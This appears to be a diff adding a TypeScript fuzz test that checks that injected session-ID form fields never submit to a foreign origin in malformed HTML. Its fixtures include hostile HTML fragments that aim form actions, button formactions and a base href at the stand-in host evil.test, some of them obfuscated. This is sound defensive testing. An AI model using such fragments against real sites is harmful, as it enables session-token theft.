@@ -1,0 +1,165 @@
+/**
+ * No form of any page sends the SID abroad: every hidden field that was put in, and every button that can send it, as
+ * parse5 says who owns whom (HTML §4.10.17.3), in pages of broken nesting.
+ *
+ * TRANSID_FUZZ_RUNS multiplies the number of cases.
+ */
+import { expect } from 'chai';
+import fc from 'fast-check';
+import { type DefaultTreeAdapterMap, Parser, type Token, type DefaultTreeAdapterTypes as Tree } from 'parse5';
+import { markPage, SID_NAME, SID_TEXT } from '../support/mark-page.ts';
+import { attribute, baseUrl, elements } from '../support/page-tree.ts';
+
+const FACTOR = Number(process.env['TRANSID_FUZZ_RUNS'] ?? 1);
+const PAGE = 'http://shop.example/dir/page';
+const OWN = 'http://shop.example';
+
+interface ReadPage {
+  readonly document: Tree.Document;
+  /** The form pointer when the tag at an offset was read. */
+  readonly pointers: ReadonlyMap<number, Tree.Element | null>;
+}
+
+function read(html: string): ReadPage {
+  const pointers = new Map<number, Tree.Element | null>();
+  class Witness extends Parser<DefaultTreeAdapterMap> {
+    override onStartTag(token: Token.TagToken): void {
+      pointers.set(token.location?.startOffset ?? -1, this.formElement);
+      super.onStartTag(token);
+    }
+  }
+  const document = Witness.parse(html, { sourceCodeLocationInfo: true, scriptingEnabled: false });
+  return { document, pointers };
+}
+
+function* ancestors(element: Tree.Element): Generator<Tree.ParentNode> {
+  for (let node = element.parentNode; node !== null; node = 'parentNode' in node ? node.parentNode : null) yield node;
+}
+
+function ownerOf(control: Tree.Element, page: ReadPage): Tree.Element | null {
+  const id = attribute(control, 'form');
+  if (id !== null) {
+    const named = [...elements(page.document)].find((one) => attribute(one, 'id') === id);
+    return named?.tagName === 'form' ? named : null;
+  }
+  const above = [...ancestors(control)];
+  const isInTemplate = above.some((node) => node.nodeName === '#document-fragment');
+  const pointer = page.pointers.get(control.sourceCodeLocation?.startOffset ?? -1) ?? null;
+  if (pointer !== null && !isInTemplate) return pointer;
+  return (above.find((node) => 'tagName' in node && node.tagName === 'form') as Tree.Element | undefined) ?? null;
+}
+
+function isOwn(reference: string | null, base: string): boolean {
+  if (reference === null || reference === '') return true;
+  return (
+    URL.canParse(reference, base) &&
+    new URL(reference, base).origin === OWN &&
+    /^http:/.test(new URL(reference, base).href)
+  );
+}
+
+/** Ways in which the SID of a hidden field leaves the site. */
+function leaks(html: string): string[] {
+  const page = read(html);
+  const base = baseUrl(page.document, PAGE);
+  const all = [...elements(page.document)].filter((one) => one.namespaceURI === 'http://www.w3.org/1999/xhtml');
+  const found: string[] = [];
+  for (const field of all) {
+    if (field.tagName !== 'input' || attribute(field, 'value') !== SID_TEXT) continue;
+    const form = ownerOf(field, page);
+    if (form === null) continue;
+    if (!isOwn(attribute(form, 'action'), base)) found.push(`action ${attribute(form, 'action')}`);
+    for (const button of all) {
+      const type = attribute(button, 'type')?.toLowerCase() ?? '';
+      const isSubmit =
+        (button.tagName === 'button' && type !== 'button' && type !== 'reset') ||
+        (button.tagName === 'input' && (type === 'submit' || type === 'image'));
+      if (!isSubmit || ownerOf(button, page) !== form) continue;
+      if (!isOwn(attribute(button, 'formaction'), base)) found.push(`formaction ${attribute(button, 'formaction')}`);
+    }
+  }
+  return found;
+}
+
+const PIECES = [
+  ...[
+    '<form>',
+    '<form id=f>',
+    '<form id=g action=/own>',
+    '<form action=//evil.test>',
+    '<form method=post>',
+    '</form>',
+    '</form>',
+  ],
+  ...['<form id=f method=post action=x>', '<form method=dialog>', '<form id=f action="&sol;/evil.test">'],
+  ...[
+    '<button formaction=//evil.test>',
+    '<button formaction=/own>',
+    '<button formaction=//evil.test form=f>',
+    '</button>',
+  ],
+  ...['<input type=submit formaction=//evil.test>', '<input type=image formaction="http:\\\\evil.test" form=g>'],
+  ...[
+    '<button formaction=http://evil.test type=button>',
+    '<button formmethod=post>',
+    '<button form="" formaction=//evil.test>',
+  ],
+  ...['<input type=hidden name=sid value=old>', '<input name=q>', '<input type=hidden name=sid form=f>'],
+  ...[
+    '<a>',
+    '<b>',
+    '</b>',
+    '<div>',
+    '</div>',
+    '<p>',
+    '</p>',
+    '<table>',
+    '<tr>',
+    '<td>',
+    '</td>',
+    '</table>',
+    '<ul>',
+    '<li>',
+  ],
+  ...['<select>', '<option>', '</select>', '<textarea>', '</textarea>', '<template>', '</template>', '<svg>', '</svg>'],
+  ...['<svg><desc>', '<math><mi>', '<fieldset>', '</fieldset>', '<object>', '</object>', '<caption>', '<colgroup>'],
+  ...[
+    '<base href=/b/>',
+    '<base href=//evil.test/>',
+    '<title>',
+    '</title>',
+    '<script>',
+    '</script>',
+    '<noscript>',
+    'x',
+    '<!--',
+    '-->',
+  ],
+];
+const page = fc.array(fc.constantFrom(...PIECES), { minLength: 2, maxLength: 14 }).map((pieces) => pieces.join(''));
+
+describe('forms never send the SID abroad', function () {
+  this.timeout(60_000 * FACTOR);
+  for (const forms of ['auto', 'field'] as const) {
+    it(`forms: ${forms}, in pages of any nesting`, () => {
+      fc.assert(
+        fc.property(page, (html) => {
+          // A base behind a form moves its action: links before it are judged by the document, which HTML asks for.
+          fc.pre(!/<form.*<base/s.test(html));
+          const { html: marked } = markPage(html, { forms });
+          expect(leaks(marked), marked).to.deep.equal([]);
+        }),
+        { numRuns: 1500 * FACTOR, seed: 51 },
+      );
+    });
+  }
+
+  it('the witness sees a leak', () => {
+    const field = `<input type=hidden name=${SID_NAME} value=${SID_TEXT}>`;
+    expect(leaks(`<form>${field}<button formaction=//evil.test>`)).to.have.length(1);
+    expect(leaks(`<form>${field}<a></form><button formaction=//evil.test>`)).to.have.length(1);
+    expect(leaks(`<form id=f>${field}</form><input type=image form=f formaction=//evil.test>`)).to.have.length(1);
+    expect(leaks(`<form action=//evil.test>${field}`)).to.have.length(1);
+    expect(leaks(`<form>${field}<button formaction=/x></form><button formaction=//evil.test>`)).to.have.length(0);
+  });
+});
